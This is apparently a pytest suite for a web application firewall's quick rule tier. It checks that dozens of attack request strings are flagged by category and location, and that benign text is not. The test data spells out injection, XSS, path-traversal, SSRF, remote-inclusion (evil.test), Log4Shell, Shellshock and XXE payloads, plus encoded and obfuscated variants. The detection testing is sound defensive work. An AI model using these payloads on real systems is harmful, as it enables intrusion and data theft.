"""The quick tier: what it says about attacks and ordinary requests, where, and how sure it is."""

from __future__ import annotations

import json
from urllib.parse import quote_plus

import pytest

from dpi_dual.waf.quick import QuickRules
from dpi_dual.waf.request import Request, parse
from tests.waf.samples import load, request_of

RULES = QuickRules()


@pytest.mark.parametrize(
    ("path", "headers", "body", "category", "place"),
    [
        ("/?id=1%27+or+1%3D1--", {}, "", "sqli", "ARGS:id"),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", {}, "", "xss", "ARGS:q"),
        ("/?f=../../../etc/passwd", {}, "", "lfi", "ARGS:f"),
        ("/?f=..%5c..%5c..%5cx", {}, "", "path_traversal", "ARGS:f"),
        ("/?c=;cat+/etc/hosts", {}, "", "rce", "ARGS:c"),
        ("/?u=http://169.254.169.254/latest", {}, "", "ssrf", "ARGS:u"),
        ("/?file=http://evil.test/x.txt?", {}, "", "rfi", "ARGS:file"),
        ("/", {"User-Agent": "sqlmap/1.7"}, "", "scanner", "REQUEST_HEADERS:user-agent"),
        ("/", {"X-Any": "${jndi:ldap://x/a}"}, "", "log4shell", "REQUEST_HEADERS:x-any"),
        ("/", {"Referer": "() { :; }; /bin/id"}, "", "shellshock", "REQUEST_HEADERS:referer"),
        ("/?a[$ne]=1", {}, "", "nosqli", "ARGS_NAMES:a[$ne]"),
        ("/?n={{7*7}}", {}, "", "ssti", "ARGS:n"),
        ("/?u=*)(uid=*))(|(uid=*", {}, "", "ldap", "ARGS:u"),
        ("/?r=x%0d%0aSet-Cookie:a=1", {}, "", "crlf", "ARGS:r"),
        ("/?p=%3C?php+phpinfo();", {}, "", "php", "ARGS:p"),
        ("/?class.module.classLoader.x=1", {}, "", "java", "ARGS_NAMES:class.module.classLoader.x"),
        ("/", {"Content-Type": "text/xml"}, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a/>', "xxe", "XML"),
        ("/", {"Content-Length": "1", "Transfer-Encoding": "chunked"}, "", "protocol", "REQUEST_HEADERS"),
    ],
)
def test_category_and_place(path, headers, body, category, place):
    verdict = RULES.judge(parse("GET", path, headers, body))
    assert verdict.alert
    assert category in verdict.categories
    assert place in {hit.place for hit in verdict.rules if hit.category == category}


def test_a_clear_attack_blocks_and_an_ordinary_request_scores_nothing():
    assert RULES.judge(parse("GET", "/?id=1%27+union+select+1,2--")).block
    ordinary = RULES.judge(parse("GET", "/shop/items?page=2&sort=price", {"User-Agent": "Mozilla/5.0 (X11)"}))
    assert (ordinary.score, ordinary.categories, ordinary.rules, ordinary.alert) == (0, (), (), False)


def test_stricter_levels_say_at_least_as_much():
    for record in load("tuning")[:200]:
        request = request_of(record)
        scores = [QuickRules(level).judge(request).score for level in (1,)]
        assert scores[0] <= STRICT.judge(request).score


STRICT = QuickRules(3)


def test_thresholds():
    request = parse("GET", "/?id=1%27+or+1%3D1--")
    score = RULES.judge(request).score
    assert not QuickRules(alert_threshold=score + 1).judge(request).alert or score == 100
    assert not QuickRules(block_threshold=101).judge(request).block


def test_verdict_depends_on_nothing_that_came_before():
    requests = [request_of(record) for record in load("tuning")]
    fresh = [QuickRules().judge(request).score for request in requests[:40]]
    used = QuickRules()
    for request in requests:
        used.judge(request)
    assert [used.judge(request).score for request in requests[:40]] == fresh


@pytest.mark.parametrize(
    "value",
    ["PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "Li4vLi4vLi4vZXRjL3Bhc3N3ZA", "L2V0Yy9wYXNzd2Q="],
)
def test_plain_attacks_are_found_inside_base64(value: str):
    assert RULES.judge(parse("GET", f"/?d={value}")).alert
    assert RULES.judge(parse("GET", "/", {"Cookie": f"d={value}"})).alert


def test_weak_signs_inside_base64_count_at_level_two():
    request = parse("GET", "/?d=aHR0cDovL2xvY2FsaG9zdDo4MDgwL3N0YXR1cw==")
    assert not QuickRules(1).judge(request).alert
    assert QuickRules(2).judge(request).alert


@pytest.mark.parametrize(
    "text",
    [
        "The package will then update /etc/ssl/certs and restart what uses it.",
        "Please see the homepage, http://localhost:8080/status shows it too",
        "First `make` it,\nthen install:\n\tgcc -o foo foo.c\n\t./foo\nand that is all there is to it.",
        "a small window system (library) for terminals",
        "The flags $(CC) and $(SED) come from configure.",
        'import { one } from "./one.js";\nvar two = one;',
        'Fix a comparison that went wrong when the configure script was run by another shell: "==" is none of POSIX\'s',
    ],
)
def test_what_people_write_about_programs_is_no_attack(text: str):
    assert not RULES.judge(parse("POST", "/comment", FORM, "text=" + quote_plus(text))).alert


def test_addresses_are_no_attack_by_themselves():
    for address in ("https://db.example.org/derby/", "ftp://ftp.example.org/pub/", "https://example.org/a/b.png"):
        for name in ("page", "name", "site", "url"):
            assert not RULES.judge(parse("GET", f"/?{name}={quote_plus(address)}")).alert


@pytest.mark.parametrize(
    "value",
    ["..%25c0%25af..%25c0%25afetc", "..0x2f..0x2f..0x2f", "%252e%252e%255c%252e%252e%255c", "..%25uEFC8..%25uEFC8"],
)
def test_odd_encodings_of_a_climb(value: str):
    assert "path_traversal" in RULES.judge(parse("GET", f"/?f={value}")).categories
    assert "path_traversal" in RULES.judge(parse("POST", "/", FORM, f"f={value}")).categories


FORM = {"Content-Type": "application/x-www-form-urlencoded"}


@pytest.mark.parametrize(("name", "least", "most_false"), [("tuning", 0.92, 0.04), ("heldout", 0.95, 0.10)])
def test_accuracy_does_not_fall(name: str, least: float, most_false: float):
    """A floor under the own samples; their ordinary half is made of what is easily mistaken."""
    found = {"attack": [], "benign": []}
    for record in load(name):
        found[record["label"]].append(RULES.judge(request_of(record)).alert)
    assert sum(found["attack"]) / len(found["attack"]) >= least
    assert sum(found["benign"]) / len(found["benign"]) <= most_false


PADDING = "lorem ipsum " * 900


@pytest.mark.parametrize(
    ("request_", "category"),
    [
        (parse("POST", "/", {}, "q=" + quote_plus(PADDING + "' union select name, secret from staff")), "sqli"),
        (parse("GET", "/?q=%25s%25e%25l%25e%25c%25t+1,2+%25f%25r%25o%25m+staff"), "sqli"),
        (parse("GET", "/?q=1--x%0Aunion--x%0Aselect--x%0A1,2"), "sqli"),
        (parse("GET", "/?q=iif++(++31++=++32,1,1/0)"), "sqli"),
        (parse("GET", "/?q=1%27);begin+user_lock.sleep(3);end"), "sqli"),
        (parse("GET", "/", {"X-Item": "1) where 5=5"}), "sqli"),
        (parse("GET", "/", {"X-Item": "JyBvciA1PTUtLQ=="}), "sqli"),
        (parse("GET", "/PHNjcmlwdD5wcm9tcHQoKTwvc2NyaXB0Pg=="), "xss"),
        (parse("POST", "/", {}, "<script>prompt()</script>"), "xss"),
        (parse("GET", "/?q=x%22+aut%3Cb%3Eofocus+o%3Cb%3Enfocus=prompt(2)//"), "xss"),
        (parse("GET", "/?id=7#<script>prompt()</script>"), "xss"),
        (parse("GET", "/?f=%2525c0%2525ae.%2525c0%2525af.%2525c0%2525ae%2525c0%2525afx"), "path_traversal"),
        (parse("POST", "/", {}, '{"f": "..%01%c1%8s..%01%c1%8sx"}'), "path_traversal"),
        (parse("GET", "/?q=%60i%27%27d%60"), "rce"),
    ],
)
def test_what_hides_is_found(request_: Request, category: str):
    verdict = RULES.judge(request_)
    assert verdict.alert and category in verdict.categories


@pytest.mark.parametrize(
    "text",
    [
        "The gate is locked; call when you are there, and I'll come down.",
        "Sam",
        "sam",
        "In rooms where 12 people and 3 dogs live",
        "see </a> 271 and 279 </li>",
        "fix the call to exec()",
        "Hello,\n\nthe meeting is on Monday.\nIt will be short.\nBring your notes.\nCc: Ann Other <ann@a.example>",
        "Set up the router\nset it on the table\nand wait",
        "wait... for it ... and ...",
        "100%sure %of it",
        "the union of workers selected a speaker -- twice",
        "# Shopping\n# List\nmilk and honey",
    ],
)
def test_what_reads_like_an_attack_and_is_none(text: str):
    for request in (
        parse("GET", "/?q=" + quote_plus(text)),
        parse("POST", "/", {"Content-Type": "application/json"}, json.dumps({"text": text})),
        parse("GET", "/", {"Cookie": "note=" + quote_plus(text)}),
    ):
        assert not RULES.judge(request).alert
